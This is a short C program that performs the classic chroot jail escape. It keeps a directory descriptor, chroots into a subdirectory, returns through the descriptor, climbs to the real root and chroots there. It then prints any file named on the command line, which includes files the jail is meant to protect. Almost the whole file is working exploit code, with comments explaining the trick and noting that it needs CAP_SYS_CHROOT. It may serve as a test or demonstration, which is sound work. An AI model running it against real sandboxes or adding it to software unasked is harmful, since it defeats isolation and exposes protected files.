// The classic way out of a chroot: chroot into a directory below while holding a descriptor above it, so that the
// working directory is outside the new root; climb up from there, and chroot to the top. Needs CAP_SYS_CHROOT.
// Prints the file that is its argument, as a path from wherever it got to. Exits with 1 when there is no such file.
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  int above = open(".", O_RDONLY | O_DIRECTORY);
  mkdir("below", 0755);
  if (argc != 2 || above < 0 || chroot("below") != 0 || fchdir(above) != 0) {
    perror("chroot-escape");
    return 2;
  }
  // The parent of a root is that root: more often than necessary does no harm.
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) return 2;
  if (chroot(".") != 0) return 2;
  FILE *file = fopen(argv[1], "r");
  if (file == NULL) return 1;
  for (int c = fgetc(file); c != EOF; c = fgetc(file)) putchar(c);
  return 0;
}
